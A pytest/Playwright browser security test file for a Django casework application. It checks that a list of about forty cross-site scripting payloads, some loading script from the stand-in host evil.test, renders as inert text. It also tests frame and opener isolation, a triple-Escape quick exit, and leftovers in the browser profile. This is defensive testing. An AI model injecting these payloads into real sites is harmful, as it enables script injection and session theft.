"""In a real Chromium: script in every text, a page in a frame, the profile a browser leaves behind."""

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings
from django.contrib.sessions.models import Session
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.utils import timezone
from playwright.sync_api import BrowserContext, BrowserType, Dialog, Page, expect
from pytest_django.live_server_helper import LiveServer

from agencies import code_apps
from agencies.actor import Actor
from agencies.models import Agency, CodeApp, User
from casework import services
from casework.models import Case
from casework.services.exports import ask_for_export
from tests.attacks.record import Tried
from tests.browser.conftest import place
from tests.browser.seats import House, Seat
from tests.casework.cases import a_case, with_victim
from tests.casework.test_evidence import a_photo
from tests.leaks.canaries import ID, found_in, phone, text
from tests.mandatory_report.reports import ground
from tests.people import a_caseworker, signed_in

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]
__all__ = ["place"]
NEUTRAL = "https://www.weather.com.cn/"
TRIES = [
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.test/x.js></script>",
    "</title><script>alert(1)//", "<img src=x onerror=alert(1)>", "<img/src=x onerror=alert(1)//",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script>", "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)'>", "<a href=javascript:alert(1)>x</a>",
    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<input autofocus onfocus=alert(1)>",
    "<form action=javascript:alert(1)><button>", "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>", "<math href=javascript:alert(1)>x",
    "<meta http-equiv=refresh content=0;//evil>", "<base href=//evil.test/>",
    "<link rel=stylesheet href=//evil.test>", "<style>*{background:url(//e.t)}</style>",
    '"><script>alert(1)</script>', "'><script>alert(1)</script>", '" onmouseover=alert(1) x="',
    "' autofocus onfocus=alert(1) x='", "--><script>alert(1)</script>", "]]><script>alert(1)</script>",
    "</textarea><script>alert(1)//", "</script><script>alert(1)//", "</select><img src=x onerror=alert(1)>",
    "javascript:alert(1)", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}",
    "<div hx-get=/x hx-trigger=load>", "<div hx-on::load=alert(1)>", "<div data-hx-vals='js:{a:alert(1)}'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "\\u003cscript\\u003ealert(1)",
]  # fmt: skip


@pytest.fixture
def full_of_script() -> tuple[Case, Actor]:
    """Every try as a note, a name, what happened, an address; one in each name that is not typed into a case."""
    worker = a_caseworker()
    Agency.objects.filter(pk__in=[worker.agency_id]).update(name=TRIES[4])
    case = a_case(worker)
    with_victim(case, worker, name=TRIES[6], address=TRIES[23])
    for number, one in enumerate(TRIES):
        services.add_note(case, actor=worker, text=one)
        if number % 4 == 0:
            services.add_person(case, actor=worker, role="other", name=one[:40], address=one)
            services.open_task(case, actor=worker, kind="call_back", text=one)
    photo = SimpleUploadedFile(f"{TRIES[4]}.jpg", a_photo())
    services.register_evidence(case, actor=worker, kind="E5", title=TRIES[0], file=photo)
    app, _seed = code_apps.new_app(User.objects.get(pk=worker.user_id), TRIES[7][:30])
    CodeApp.objects.filter(pk=app.pk).update(confirmed_at=timezone.now())
    return case, worker


def open_everything(seat: Seat) -> None:
    """What is covered is uncovered, what is folded is opened."""
    seat.page.evaluate("document.querySelectorAll('details').forEach(one => { one.open = true })")
    for part in ("notes", "evidence"):
        button = seat.page.locator(f"#{part} form[hx-post]:has([name=part][value={part}]) button")
        if button.count():
            seat.send(button)
    for button in seat.page.locator("#people").get_by_role("button", name="查看").all()[:1]:
        seat.send(button)


@pytest.mark.attack("T53")
def test_script_in_every_text_is_text(place: House, full_of_script: tuple[Case, Actor], tried: Tried) -> None:
    case, worker = full_of_script
    seat, home = place.seat(worker), case.get_absolute_url()
    export = ask_for_export(actor=worker, source="cases", people="numbers", form="csv", reason=TRIES[1])
    services.assign_case(case, actor=worker, user_id=worker.user_id)
    page, heard, shown = seat.page, list[str](), ""

    def hear(dialog: Dialog) -> None:
        heard.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", hear)
    page.on("request", lambda one: heard.extend([one.url] if "evil" in one.url else []))
    for address in (
        home,
        "/cases/",
        "/cases/today/",
        "/security",
        export.get_absolute_url(),
        "/sign-in?next=" + TRIES[0],
    ):
        page.goto(address)
        if address == home:
            open_everything(seat)
        shown += page.locator("body").inner_text()
        heard += page.eval_on_selector_all(
            "[href^='javascript:' i], [action^='javascript:' i]", "all => all.map(one => one.outerHTML)"
        )
    for one in (TRIES[0], TRIES[29]):
        page.goto("/cases/")
        page.locator("[name=text]").first.fill(one)
        page.locator("[name=text]").first.press("Enter")
        page.get_by_role("heading", name="搜索").wait_for()
        assert page.locator("[name=text]").first.input_value() == one
        answer = page.goto(f"/cases/{one}")
        assert answer is not None and answer.status == 404
    page.goto(f"{home}people/add/")
    page.locator("main [name=name]").fill(TRIES[0])
    page.locator("main [name=phone]").fill(TRIES[23])
    page.locator("main form button.button-primary").first.click()
    page.wait_for_load_state("networkidle")
    echoed = page.locator("main [name=name]").input_value()
    absent = [one for one in TRIES if " ".join(one.split()) not in " ".join(shown.split())]
    tried(
        request="40 texts as note, name, address, task, file name, agency, reason, device, search, error",
        actor="caseworker",
        expected=([], [], [], TRIES[0]), got=(heard, absent, seat.complaints, echoed),
    )  # fmt: skip


@pytest.mark.attack("T52")
def test_a_page_stands_in_no_frame_and_holds_to_no_opener(
    page: Page, live_server: LiveServer, tried: Tried
) -> None:
    door = f"{live_server.url}/sign-in"
    page.route(
        "http://evil.test/**",
        lambda route: route.fulfill(content_type="text/html", body=f"<iframe src='{door}'></iframe>"),
    )
    page.goto("http://evil.test/")
    page.wait_for_load_state("networkidle")
    framed = [frame.url for frame in page.frames[1:] if frame.url.startswith(live_server.url)]
    inside = [
        word
        for frame in page.frames[1:]
        if (word := frame.evaluate("document.querySelector('main') && 'shown'"))
    ]
    with page.expect_popup() as opened:
        page.evaluate("door => { window.held = window.open(door) }", door)
    opened.value.wait_for_load_state()
    got = (
        framed and inside,
        opened.value.title(),
        opened.value.evaluate("window.opener"),
        page.evaluate("window.held.closed"),
    )
    tried(
        request="GET /sign-in in a frame, in a window held open",
        actor="a foreign page",
        expected=([], "工作台", None, True),
        got=got,
    )


@pytest.fixture
def profile(
    browser_type: BrowserType,
    browser_type_launch_args: dict[str, Any],
    browser_context_args: dict[str, Any],
    tmp_path: Path,
) -> Iterator[tuple[Path, BrowserContext]]:
    """A browser that keeps what it likes on disk, as people's own browsers do."""
    context = browser_type.launch_persistent_context(
        tmp_path / "profile", **browser_type_launch_args, **browser_context_args
    )
    context.route(
        f"{NEUTRAL}**",
        lambda route: route.fulfill(content_type="text/html; charset=utf-8", body="<title>天气</title>晴"),
    )
    yield tmp_path / "profile", context
    context.close()


def marks_in(folder: Path) -> list[str]:
    found = []
    for file in folder.rglob("*"):
        if file.is_file() and not file.is_symlink() and (hits := found_in(file.read_bytes())):
            found.append(f"{file.relative_to(folder)}: {hits[0]}")
    return found


@pytest.mark.attack("T75")
def test_a_browser_keeps_nothing_of_her_and_back_leads_away(
    profile: tuple[Path, BrowserContext], live_server: LiveServer, tried: Tried
) -> None:
    ground()
    folder, context = profile
    worker = a_caseworker()
    case = a_case(worker)
    with_victim(case, worker, name=text(1), phone=phone(1), id_number=ID)
    visitor = context.pages[0]
    visitor.set_default_timeout(8_000)
    session = signed_in(Client(), worker).cookies[settings.SESSION_COOKIE_NAME]
    cookie: Any = {"name": session.key, "value": session.value, "url": live_server.url}
    context.add_cookies([cookie])
    visitor.goto(NEUTRAL)
    visitor.goto(f"{live_server.url}/report/")
    visitor.get_by_role("link", name="开始报告").click()
    visitor.locator("[name=duty][value=minor]").check()
    visitor.get_by_role("button", name="下一步").click()
    visitor.locator("[name=account]").fill(text(2))
    for _press in range(3):
        visitor.keyboard.press("Escape")
    visitor.wait_for_url(NEUTRAL)
    where = [visitor.title()]
    visitor.goto(f"{live_server.url}/hand-over/")
    visitor.goto(f"{live_server.url}/report/")
    for _press in range(3):
        visitor.keyboard.press("Escape")
    visitor.wait_for_url(NEUTRAL)
    visitor.go_back(wait_until="commit")
    visitor.wait_for_url(NEUTRAL)
    visitor.wait_for_load_state()
    ended = not Session.objects.filter(pk=session.value).exists()
    got = ([*where, visitor.title()], ended)
    tried(request="Esc ×3 in a form, then back", actor="visitor", expected=(["天气", "天气"], True), got=got)
    session = signed_in(Client(), worker).cookies[settings.SESSION_COOKIE_NAME]
    context.add_cookies([cookie | {"value": session.value}])
    desk = context.new_page()
    desk.goto(f"{live_server.url}{case.get_absolute_url()}")
    desk.locator("#people").get_by_role("button", name="查看").first.click()
    expect(desk.locator("#people")).to_contain_text(text(1))
    desk.goto(f"{live_server.url}/cases/")
    desk.locator("[name=text]").first.fill(text(1))
    desk.locator("[name=text]").first.press("Enter")
    desk.get_by_role("heading", name="搜索").wait_for()
    half = context.new_page()
    half.goto(f"{live_server.url}{case.get_absolute_url()}notes/add/")
    half.locator("main textarea").first.fill(text(4))
    half.locator("main textarea").first.blur()
    context.close()
    (folder / "planted").write_text(text(3))
    seen = [one.split(":")[0] for one in marks_in(folder)]
    tried(
        request="the profile after a report and a case, the file for a restart too",
        actor="who sits down next",
        expected=["planted"],
        got=seen,
    )
